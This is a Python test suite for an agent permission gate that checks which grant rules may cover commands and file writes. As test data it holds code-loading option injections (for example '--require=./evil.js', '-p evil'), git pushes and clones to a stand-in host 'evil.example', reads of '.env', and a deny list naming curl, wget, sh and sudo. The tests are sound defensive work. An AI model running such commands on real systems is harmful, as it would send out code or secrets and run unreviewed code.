"""Grants: what a rule covers, what is offered, and what reaches too far."""

import hashlib
import shlex
from collections.abc import Mapping

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from byleave.gate import Gate, GateRules, Judgement
from byleave.gate.commands.calls import call_of
from byleave.gate.commands.tables import load_tables
from byleave.gate.commands.understood import RUN_CODE
from byleave.gate.policy.grants import (
    MOST_SUGGESTIONS,
    Opening,
    breadth,
    covers,
    covers_everything,
    leaves_unseen,
    problem_with,
    suggest,
    text_of,
    widest_of,
)
from byleave.protocol.grants import GrantRule, Suggestion
from byleave.protocol.verdicts import VerdictLevel
from harness.json_values import JsonObject

pytestmark = pytest.mark.promise("G8")

WORKSPACE = "/home/user/ws"
CALM = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
GATE = Gate(GateRules(allowed_commands=frozenset(load_tables())))
SEEN = hashlib.sha256(b"as shown").hexdigest()
OTHER = hashlib.sha256(b"changed").hexdigest()


def judged(tool: str, params: JsonObject) -> Judgement:
    return GATE.judge(tool, params, workspace=WORKSPACE)


def run(line: str) -> Judgement:
    command, *args = shlex.split(line)
    return judged("execute_command", {"command": command, "args": args})


def write(path: str) -> Judgement:
    return judged("write_file", {"path": path, "content": "x"})


def digests(judgement: Judgement, digest: str = SEEN) -> dict[str, str]:
    """Files that would run: those a line names are there, those that would shadow a module are not."""
    params = judgement.params or {}
    named = [*params.get("args", ()), "package.json"]
    return {
        path: digest if any(arg == path or arg.endswith("/" + path) for arg in named) else "missing"
        for path in judgement.verdict.runs
    }


def is_covered(
    rule: GrantRule, judgement: Judgement, bound: Mapping[str, str] | None = None, unseen: tuple[str, ...] = ()
) -> bool:
    assert judgement.params is not None
    verdict = judgement.verdict
    call = call_of(judgement.tool_name, judgement.params, judgement.command, WORKSPACE)
    return covers(
        rule,
        call,
        level=verdict.level,
        always_asks=verdict.always_asks,
        network=verdict.network,
        bound=digests(judgement) if bound is None else bound,
        unseen=unseen,
    )


def offered(judgement: Judgement, bound: Mapping[str, str] | None = None) -> list[Suggestion]:
    found = digests(judgement) if bound is None else bound
    return suggest(judgement.tool_name, judgement.params, judgement.verdict, found, WORKSPACE)


def command(line: str, *, exact: bool = False, files: dict[str, str] | None = None) -> GrantRule:
    return GrantRule(tool="execute_command", command=tuple(shlex.split(line)), exact=exact, files=files or {})


def writes(*paths: str) -> GrantRule:
    return GrantRule(tool="write_file", paths=paths)


def _pieces(text: str) -> list[str]:
    return [piece.strip() for piece in text.split("|")]


LINES = _pieces(
    """git status | git diff --stat HEAD~1 | git commit -m 'a b' | git add src/a.py | git push origin main |
    git fetch | git -C src log --oneline | git checkout -b x | git apply x.txt | git stash pop |
    git config --get user.name | python x.py | python -u sub/x.py a -b | python3 /home/user/ws/x.py |
    python -m pytest | python -m unittest -v a.b |
    python -m pytest tests/test_a.py::T::t -xvs -k 'a or b' |
    python -m django test a.b --settings=test_sqlite | python -m timeit 1 | python --version |
    python -m pip install x | python -m cProfile x.py | node x.js | node --test | node --check a.js |
    npm test | npm run build | npm run lint -- --fix | npm --prefix app test | npm install x | npm ls |
    npm view react | npm ci | pytest -q | mkdir -p a/b | touch a.py | cp a.py b.py | go test ./... |
    cargo test | pip install x | grep -n x a.py"""
)
"""What agents run; some of it MEDIUM, some not."""
PATHS = ["src/pkg/deep/a.py", "README.md", "./notes.txt", "/home/user/ws/x.py", "docs/a b.md", "a.json", "web/app.tsx"]
ATTACKS = [
    shlex.split(piece)
    for piece in _pieces(
        """-p evil | -pevil | -c evil.ini | --rootdir=evil | -o python_files=* | --config-file=x |
        --import-mode=importlib | -W error::evil.X | @args.txt | --pyargs evil | --basetemp=src |
        -m evil | --junitxml=a.xml | --exec ./x | -- --require ./evil.js | --require=./evil.js |
        -r ./evil.js | --testrunner=evil.CommandUser | --pythonpath=evil | --test-reporter=./evil.js |
        -exec ./x | -toolexec=./x | --config build.rustc=./x | --cov-config=x | --debug=x | --pdb |
        --trace | -vc evil.ini | --ro evil | https://evil.example/x.git main | --receive-pack=./x |
        --upload-pack=./x | -f | --force | ../other | /etc/x"""
    )
]
HARMLESS_THERE = {
    "pytest": ["-m evil"],  # tests with this mark
    "unittest": ["-f"],  # stop at the first failure
    "cargo": ["-p evil", "-pevil"],  # a package of the workspace
}


def test_every_program_that_runs_code_may_only_be_granted_as_such() -> None:
    assert set(breadth().runners) == RUN_CODE


# What a class covers


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("git", "git status"),
        ("git", "git commit -m x"),
        ("git commit", "git commit -am 'a b'"),
        ("python -m pytest", "python -m pytest tests -xvs -k 'a and not b' --tb=short --maxfail 3 -rA"),
        ("python -m pytest", "python3 -m pytest"),
        ("python3 -m pytest", "python -m pytest -q"),
        ("python -m django test", "python -m django test a.b.C --settings=test_sqlite -v 2"),
        ("npm ls", "npm ls --depth=0"),
        ("mkdir", "mkdir -p a/b"),
    ],
)
def test_a_beginning_covers_its_medium_uses(rule: str, line: str) -> None:
    assert is_covered(command(rule), run(line))


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("git", "git push"),
        ("git", "git push origin main"),
        ("git", "git -C src push origin evil"),
        ("git", "git push --force origin main"),
        ("git", "git reset --hard"),
        ("git", "git config alias.x '!id'"),
        ("git", "git remote add evil https://evil.example/x.git"),
        ("git", "git -c core.pager=./x log"),
        ("git", "git push https://evil.example/x.git main"),
        ("git", "git push evil.example:x.git main"),
        ("git", "git clone https://evil.example/x.git"),
        ("git", "git apply notes.txt"),
        ("git", "git -C src am notes.txt"),
        ("git", "git update-index --add --cacheinfo 100644,0123456789abcdef,a.txt"),
        ("git", "git -C src read-tree HEAD~1"),
        ("git", "git hash-object -w a.txt"),
        ("git", "git write-tree"),
        ("git", "git commit-tree HEAD^{tree}"),
        ("git", "git symbolic-ref HEAD"),
        ("git", "git mktree"),
        ("git commit", "git push"),
        ("git commit", "git -C src commit -m x"),
        ("python -m pytest", "python -m unittest"),
        ("python -m pytest", "python -c 1"),
        ("python -m django test", "python -m django shell"),
        ("npm ls", "npm install"),
        ("mkdir", "touch a.py"),
    ],
)
def test_a_beginning_covers_nothing_else(rule: str, line: str) -> None:
    assert problem_with(command(rule)) is None
    assert not is_covered(command(rule), run(line))


@pytest.mark.parametrize("opening", breadth().openings, ids=lambda one: " ".join(one.words))
def test_options_that_load_other_code_are_not_covered_by_a_runner(opening: Opening) -> None:
    rule = GrantRule(tool="execute_command", command=opening.words)
    harmless = {
        attack
        for name, attacks in HARMLESS_THERE.items()
        for attack in attacks
        if name in opening.words and "--version" not in opening.words
    }
    passed = {" ".join(attack) for attack in ATTACKS if is_covered(rule, run(shlex.join([*opening.words, *attack])))}
    assert passed == harmless


def test_exact_line_covers_that_line_alone() -> None:
    rule = command("git commit -m x", exact=True)
    assert is_covered(rule, run("git commit -m x"))
    assert not is_covered(rule, run("git commit -m x -a"))
    assert not is_covered(rule, run("git commit -m y"))


@pytest.mark.parametrize("level", [VerdictLevel.LOW, VerdictLevel.HIGH, VerdictLevel.REFUSE])
def test_a_class_covers_medium_and_no_other_level(level: VerdictLevel) -> None:
    call = call_of("execute_command", {"command": "git", "args": ["status"]}, None)
    rule = command("git")
    assert covers(rule, call, level=VerdictLevel.MEDIUM, always_asks=False, network=False, bound={})
    assert not covers(rule, call, level=level, always_asks=False, network=False, bound={})
    assert not covers(rule, call, level=VerdictLevel.MEDIUM, always_asks=True, network=False, bound={})


def test_everything_covers_medium_and_high_but_never_what_always_asks() -> None:
    assert covers_everything(level=VerdictLevel.MEDIUM, always_asks=False)
    assert covers_everything(level=VerdictLevel.HIGH, always_asks=False)
    assert not covers_everything(level=VerdictLevel.HIGH, always_asks=True)
    assert not covers_everything(level=VerdictLevel.REFUSE, always_asks=False)
    assert not covers_everything(level=VerdictLevel.LOW, always_asks=False)


@pytest.mark.parametrize(
    ("path", "covered"),
    [
        ("src/a.py", True),
        ("src/x/y.md", True),
        ("/home/user/ws/src/a.py", True),
        ("lib/a.py", False),
        ("srcx/a.py", False),
        ("src/package.json", False),
        ("src/conftest.py", False),
        ("src/a.sh", False),
        ("src/x/../../a.py", False),
    ],
)
def test_writes_below_a_directory_are_covered_unless_something_trusts_the_file(path: str, covered: bool) -> None:
    assert is_covered(writes("src/**"), write(path)) is covered


# Code


def test_script_is_covered_while_its_content_stays_the_same() -> None:
    rule = command("python x.py", files={"x.py": SEEN})
    assert is_covered(rule, run("python x.py --fast"))
    assert not is_covered(rule, run("python x.py"), {"x.py": OTHER})
    assert not is_covered(rule, run("python x.py"), {})
    assert not is_covered(rule, run("python x.py"), {"x.py": SEEN, "y.py": SEEN})
    assert not is_covered(rule, run("python -i x.py"), {"x.py": SEEN})


def test_script_of_package_json_is_covered_as_it_is() -> None:
    [only] = offered(run("npm test"))
    assert only.rule.exact
    assert is_covered(only.rule, run("npm test"))
    assert not is_covered(only.rule, run("npm test -- --require ./evil.js"))
    assert not is_covered(only.rule, run("npm test"), digests(run("npm test"), OTHER))


def test_module_of_the_workspace_in_place_of_the_test_runner_is_not_covered() -> None:
    call = run("python -m pytest")
    assert is_covered(command("python -m pytest"), call)
    assert not is_covered(command("python -m pytest"), call, {**digests(call), "pytest.py": OTHER})


def test_files_that_cannot_be_told_are_never_covered() -> None:
    for line in ("python x.py", "python -m pytest", "git status"):
        for digest in ("missing", SEEN):
            assert offered(run(line), {".": digest}) == []
    assert not is_covered(command("python x.py", exact=True, files={".": SEEN}), run("python x.py"), {".": SEEN})


@pytest.mark.parametrize("line", ["npm install x", "npm ci", "python -m pip install x", "pip install x", "npm install"])
def test_code_from_the_network_is_never_offered(line: str) -> None:
    assert offered(run(line)) == []


@pytest.mark.parametrize(
    "line", ["python -m cProfile x.py", "python -m pdb x.py", "python -m runpy x", "python -m timeit 1"]
)
def test_module_that_runs_what_it_is_pointed_at_is_not_offered(line: str) -> None:
    assert offered(run(line), dict.fromkeys(run(line).verdict.runs, "missing")) == []


@pytest.mark.parametrize(("line", "runs"), [("python -m pytest", True), ("python x.py", True), ("git status", False)])
def test_code_is_not_covered_while_files_were_written_that_nobody_saw(line: str, runs: bool) -> None:
    rule = offered(run(line))[-1].rule
    assert is_covered(rule, run(line), unseen=("docs/a.md",))
    assert is_covered(rule, run(line), unseen=("src/a.py",)) is not runs


@pytest.mark.parametrize(
    ("line", "files"),
    [("node --test", {}), ("cargo test", {}), ("npm test", {"package.json": SEEN, ".npmrc": "missing"})],
)
def test_program_that_may_run_notes_is_not_covered_while_they_were_written_unseen(
    line: str, files: dict[str, str]
) -> None:
    rule = command(line, exact=bool(files), files=files)
    assert is_covered(rule, run(line), files)
    assert not is_covered(rule, run(line), files, unseen=("docs/a.md",))


def test_syntax_check_is_not_covered_while_a_module_of_pythons_own_could_be_shadowed() -> None:
    rule = command("python -m py_compile")
    assert is_covered(rule, run("python -m py_compile a.py"))
    assert not is_covered(rule, run("python -m py_compile a.py"), unseen=("traceback.py",))


@pytest.mark.parametrize("path", [".env", "conf/secrets.txt", "id_rsa"])
def test_syntax_check_by_a_grant_prints_no_line_of_a_secret_file(path: str) -> None:
    assert not is_covered(command("python -m py_compile"), run(f"python -m py_compile {path}"))


@pytest.mark.parametrize(
    "line",
    [
        "git rebase -s x/y main",
        "git merge-file conftest.py a b",
        "git mv a.py conftest.py",
        "git show HEAD:.env",
        "git interpret-trailers --in-place a.py",
        "git clone ./a .vscode",
        "git stash show --output=conftest.py",
        "git diff --no-index a .env",
        "git checkout -- .byleave/policy.toml",
        "git mailinfo a b",
        "git x/y",
    ],
)
def test_all_of_git_covers_no_program_secret_or_file_that_runs(line: str) -> None:
    assert not is_covered(command("git"), run(line), {})


def test_what_a_covered_call_leaves_unseen_is_known() -> None:
    def left(judgement: Judgement) -> tuple[str, ...]:
        assert judgement.params is not None
        return leaves_unseen(call_of(judgement.tool_name, judgement.params, judgement.command, WORKSPACE))

    assert left(write("src/a.py")) == ("src/a.py",)
    assert left(write("src/x/../a.py")) == ("**",)
    assert left(run("git -C src pull")) == ("**",)
    assert left(run("git status")) == ()


# What is offered


def test_suggestions_go_from_narrow_to_wide() -> None:
    assert [one.rule.paths for one in offered(write("src/pkg/a.py"))] == [
        ("src/pkg/a.py",),
        ("src/pkg/*.py",),
        ("src/pkg/**",),
        ("src/**",),
    ]
    assert [one.rule.paths for one in offered(write("notes.md"))] == [("./notes.md",), ("./*.md",)]
    assert [(one.rule.command, one.rule.exact) for one in offered(run("git commit -m x"))] == [
        (("git", "commit", "-m", "x"), True),
        (("git", "commit"), False),
        (("git",), False),
    ]
    assert [(one.rule.command, one.rule.files) for one in offered(run("python x.py -v"))] == [
        (("python", "x.py", "-v"), {"x.py": SEEN}),
        (("python", "x.py"), {"x.py": SEEN}),
    ]


def test_file_at_the_top_does_not_stand_for_files_of_that_name_elsewhere() -> None:
    rule = offered(write("notes.md"))[0].rule
    assert is_covered(rule, write("notes.md"))
    assert not is_covered(rule, write("docs/notes.md"))


def test_web_search_says_that_text_goes_outside() -> None:
    [only] = offered(judged("search_web", {"query": "x"}))
    assert "outside" in only.widest
    assert is_covered(only.rule, judged("search_web", {"query": "y"}))


@pytest.mark.parametrize(
    "judgement",
    [
        write("a.sh"),
        write("package.json"),
        run("python -c 1"),
        run("git reset --hard"),
        run("rm a.py"),
        run("gcc a.c"),
        run("git -c core.pager=x log"),
        run("ls"),
        judged("read_file", {"path": ".env"}),
        judged("read_file", {}),
    ],
    ids=lambda one: f"{one.tool_name} {one.verdict.level}",
)
def test_nothing_is_offered_from_high_low_refused_or_secret_calls(judgement: Judgement) -> None:
    assert offered(judgement) == []


def test_secret_and_invisible_words_are_not_kept_in_a_rule() -> None:
    token = "ghp_" + "a1B2c3D4e5F6" * 3
    lines = ["git push https://user:" + token + "@example.org/r.git", "git commit -m 'a\u202eb'"]
    for line in lines:
        for one in offered(run(line)):
            assert token not in str(one)
            assert "\u202e" not in str(one)


def test_words_that_do_not_fit_a_rule_are_not_offered() -> None:
    assert [one.rule.command for one in offered(run(f"git commit -m {'x' * 500}"))] == [("git", "commit"), ("git",)]
    assert [one.rule.command for one in offered(run("git commit -m ''"))] == [("git", "commit"), ("git",)]


def test_a_call_of_the_record_is_understood_without_its_reading() -> None:
    plain = {"command": "git", "args": ["-C", "src", "am", "x.txt"], "timeout": 30}
    call = call_of("execute_command", plain, None, WORKSPACE)
    assert not covers(command("git"), call, level=VerdictLevel.MEDIUM, always_asks=False, network=False, bound={})
    verdict = run("git -C src diff").verdict.model_copy(update={"understood": None})
    found = suggest("execute_command", {**plain, "args": ["-C", "src", "diff"]}, verdict, {}, WORKSPACE)
    assert found[1].rule.command == ("git", "-C", "src", "diff")


def test_name_with_a_wildcard_in_it_is_not_taken_for_a_pattern() -> None:
    assert offered(write("src/a*.py")) == []


@CALM
@given(st.sampled_from(LINES).map(run) | st.sampled_from(PATHS).map(write))
def test_every_suggestion_covers_its_own_call_and_has_no_problem(judgement: Judgement) -> None:
    found = offered(judgement)
    assert len(found) <= MOST_SUGGESTIONS
    for one in found:
        assert judgement.verdict.level is VerdictLevel.MEDIUM
        assert problem_with(one.rule) is None
        assert is_covered(one.rule, judgement)
        assert one.text == text_of(one.rule)
        assert one.widest == widest_of(one.rule)


@CALM
@given(
    st.sampled_from(LINES),
    st.lists(st.sampled_from([*ATTACKS, ["-q"], ["tests"], ["x"]]), max_size=3),
    st.sampled_from(LINES),
)
def test_each_wider_suggestion_covers_all_that_a_narrower_one_does(
    line: str, more: list[list[str]], other: str
) -> None:
    for judgement in (run(shlex.join([*shlex.split(line), *(arg for one in more for arg in one)])), run(other)):
        if judgement.params is None:
            continue
        covered = [is_covered(one.rule, judgement) for one in offered(run(line))]
        assert covered == sorted(covered), (line, judgement.params)


@CALM
@given(st.sampled_from(LINES), st.lists(st.sampled_from(ATTACKS), min_size=1, max_size=3), st.integers(0, 4))
def test_no_suggestion_covers_code_that_nobody_has_seen(line: str, attacks: list[list[str]], at: int) -> None:
    words = shlex.split(line)
    attack = [arg for one in attacks for arg in one]
    varied = [*words[: at + 1], *attack, *words[at + 1 :]]
    judgement = run(shlex.join(varied))
    if judgement.params is None:
        return
    for one in offered(run(line)):
        if not is_covered(one.rule, judgement):
            continue
        assert judgement.verdict.level is VerdictLevel.MEDIUM
        call = call_of("execute_command", judgement.params, judgement.command, WORKSPACE)
        opening = breadth().opening(call.argv)
        if call.argv[0] in breadth().runners and opening is None:
            # The same script with other arguments: what runs is what was shown, word for word up to its name.
            assert one.rule.files == digests(judgement)
            assert call.argv[: len(one.rule.command)] == one.rule.command
        elif opening is not None:
            assert opening.lets(call.argv[len(opening.words) :])
        else:
            assert judgement.verdict.runs == ()


@CALM
@given(st.sampled_from(LINES))
def test_changed_content_ends_every_grant_that_is_bound_to_it(line: str) -> None:
    judgement = run(line)
    for one in offered(judgement):
        if one.rule.files:
            assert not is_covered(one.rule, judgement, digests(judgement, OTHER))


# What reaches too far


@pytest.mark.parametrize(
    "line",
    _pieces(
        """python | python3 | python -c | python -m | python -m pip | python -m venv |
        python -m pytest -p x | python x.py | node | node -e | npm | npm exec | npx | npm run |
        npm install | npm test | npm publish | git -c | git apply | git -c core.pager=x |
        git push | git push origin | git push --force | git credential | find | tar | gcc | make |
        cargo | cargo run | go | go run |
        pip | pip install | curl | wget | rm | sh | bash | env | xargs | sudo | perl | frobnicate | ./x |
        locate"""
    ),
)
def test_a_beginning_that_reaches_too_far_has_a_problem_in_words(line: str) -> None:
    problem = problem_with(command(line))
    assert problem is not None
    assert problem.endswith(".")
    assert not is_covered(command(line), run(line)) if run(line).params is not None else True


@pytest.mark.parametrize(
    "glob", ["**", "*", "**/*", "./*", "*.*", "?", "../x", "/etc/**", ".git/**", "src/../**", ".byleave/x"]
)
def test_a_pattern_that_reaches_too_far_has_a_problem(glob: str) -> None:
    assert problem_with(writes(glob)) is not None


@pytest.mark.parametrize("glob", ["src/**", "src/", "*.md", "**/*.py", "docs/*", "./a.txt", "a/b c.md"])
def test_a_person_may_widen_to_a_directory_or_a_kind_of_file(glob: str) -> None:
    assert problem_with(writes(glob)) is None


@pytest.mark.parametrize(
    "rule",
    [
        GrantRule(tool="fly"),
        GrantRule(tool="write_file"),
        GrantRule(tool="execute_command"),
        GrantRule(tool="read_file", paths=("src/**",)),
        GrantRule(tool="write_file", paths=("src/**",), command=("git",)),
        GrantRule(tool="search_web", paths=("src/**",)),
        GrantRule(tool="execute_command", command=("git", "add"), paths=("src/**",)),
        GrantRule(tool="execute_command", command=("git", "add"), files={"a.py": SEEN}),
        GrantRule(tool="execute_command", command=("python",), files={"a.py": SEEN}),
        GrantRule(tool="execute_command", command=("npm", "install"), exact=True, files={"package.json": SEEN}),
    ],
    ids=str,
)
def test_a_rule_that_makes_no_sense_has_a_problem(rule: GrantRule) -> None:
    assert problem_with(rule) is not None


# In words


@pytest.mark.parametrize(
    ("rule", "words"),
    [
        (writes("src/**"), "Write text files below 'src'."),
        (writes("src/"), "Write text files below any 'src/'."),
        (writes("src/pkg/"), "Write text files below 'src/pkg'."),
        (writes("a.md"), "Write any file 'a.md', in whatever directory."),
        (writes("./a.md"), "Write 'a.md'."),
        (writes("./*.md"), "Write '*.md' files in the project root."),
        (writes("*.md"), "Write '*.md' files anywhere."),
        (writes("a.py/b.md", "x/?.md"), "Write 'a.py/b.md' or files that fit 'x/?.md'."),
        (command("git commit"), "Run git commit with anything after it."),
        (command("git commit -m 'a b'", exact=True), "Run exactly git commit -m 'a b'."),
        (
            command("python x.py", files={"x.py": SEEN}),
            f"Run python x.py with anything after it, while 'x.py' ({SEEN[:12]}) stays as it is now.",
        ),
        (command("python -m pytest"), "Run python -m pytest (the project's tests) with usual options."),
        (GrantRule(tool="read_file", paths=("a",)), "Use 'read_file' on any file 'a', in whatever directory."),
    ],
)
def test_a_rule_reads_as_a_sentence(rule: GrantRule, words: str) -> None:
    assert text_of(rule) == words


def test_widest_says_what_could_happen_at_most() -> None:
    assert "Not pushing" in widest_of(command("git"))
    assert "read" in widest_of(command("git -C src diff"))
    assert "MEDIUM" in widest_of(command("mkdir"))
    assert "arguments" in widest_of(command("python x.py", files={"x.py": SEEN}))
    assert "package.json" in widest_of(writes("src/**"))
    assert "shown" in widest_of(writes("src/a.py"))
    assert "ends with .md is made" in widest_of(writes("src/*.md"))
    assert "ends with .md .txt is made" in widest_of(writes("src/*.md", "*.txt"))
    assert "ends with .tsx is made" in widest_of(writes("src/*.TSX"))
    assert " .md .py " in widest_of(writes("src/*.md", "docs/"))
    many = {f"{name}.py": SEEN for name in "abcde"}
    assert "2 more" in widest_of(command("python x", exact=True, files=many))


def test_words_of_a_rule_cannot_move_the_cursor_or_hide() -> None:
    rule = GrantRule(tool="execute_command", command=("git", "add", "a\x1b[2K\u202eb"), exact=True)
    for shown in (text_of(rule), widest_of(rule), problem_with(GrantRule(tool="a\x1b[2K")) or ""):
        assert shown.isprintable()


@pytest.mark.parametrize(
    ("path", "named"),
    [
        *(
            ("src/cmd/main.go", "go"),
            ("src/lib.rs", "rs"),
            ("src/A.java", "java"),
            ("src/a.c", "c"),
            ("src/a.rb", "rb"),
        ),
        *(
            ("src/a.css", "css"),
            ("src/a.html", "html"),
            ("src/q.sql", "sql"),
            ("src/a.toml", "toml"),
            ("src/a.yml", "yml"),
        ),
        *(("src/a.mdx", "mdx"), ("src/n.ipynb", "ipynb"), ("src/a.pyx", "pyx"), ("src/k.cu", "cu"), ("src/a.sv", "sv")),
        *(("src/a.razor", "razor"), ("src/a.glsl", "glsl"), ("src/m_de.properties", "properties"), ("src/a.s", "s")),
    ],
)
def test_source_code_is_covered_by_a_rule_that_names_its_kind(path: str, named: str) -> None:
    judgement = write(path)
    assert judgement.verdict.level is VerdictLevel.HIGH
    assert is_covered(writes(f"src/**/*.{named}"), judgement)
    assert not is_covered(writes("src/**"), judgement), "A rule that names no kind is about text."
    assert not is_covered(writes("src/**/*.py"), judgement)
    assert not is_covered(writes(f"docs/**/*.{named}"), judgement)
    rules = offered(judgement)
    assert rules[-1].rule.paths == ("src/**", f"src/**/*.{named}")
    assert f"'*.{named}' files below 'src'" in rules[-1].text
    assert f".{named}" in rules[-1].widest
    assert all(problem_with(suggestion.rule) is None for suggestion in rules)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        *((name, "x") for name in ("src/run.sh", "src/app.conf", "src/Makefile", "src/tool", "src/a.ps1", "src/a.bat")),
        *((name, "x") for name in ("src/pyproject.toml", "src/go.mod", "src/Cargo.toml", "src/a.config.mjs")),
        *(
            (name, "x")
            for name in (".github/workflows/ci.yml", "src/docker-compose.yml", "src/build.rs", "src/pom.xml")
        ),
        *((name, "x") for name in ("src/.vscode/a.html", "src/node_modules/a/b.c", "src/a.desktop", "src/x.unknown")),
        ("src/a.rb", "#!/usr/bin/env ruby\n"),
        ("src/a.go", "\0"),
    ],
)
def test_what_runs_later_or_is_trusted_is_covered_by_no_rule(path: str, content: str) -> None:
    judgement = judged("write_file", {"path": path, "content": content})
    assert judgement.verdict.level is VerdictLevel.HIGH
    assert offered(judgement) == []
    _, _, ending = path.rpartition(".")
    assert not any(
        is_covered(writes(glob), judgement) for glob in (path, "src/**", f"src/**/*.{ending}", f"*.{ending}")
    )


@pytest.mark.parametrize(
    "line",
    [
        *("git checkout -- package.json", "git restore .vscode/tasks.json", "git checkout HEAD~1 -- sub/Makefile"),
        *("git clone https://example.org/x.git", "git worktree add x", "python -m venv env", "cargo add x", "go get x"),
        *("git rm .github/workflows/ci.yml", "npm install x", "npm uninstall x", "npm version patch", "npm init -y"),
        *("cp -b -S on a.txt package.js", "cp --suffix=on a.txt x/package.js", "mv -Son a.js package.js"),
    ],
)
def test_line_that_changes_a_trusted_file_asks_under_every_grant_and_mode(line: str) -> None:
    judgement = run(line)
    assert judgement.verdict.always_asks
    assert offered(judgement) == []
    assert not covers_everything(level=judgement.verdict.level, always_asks=judgement.verdict.always_asks)
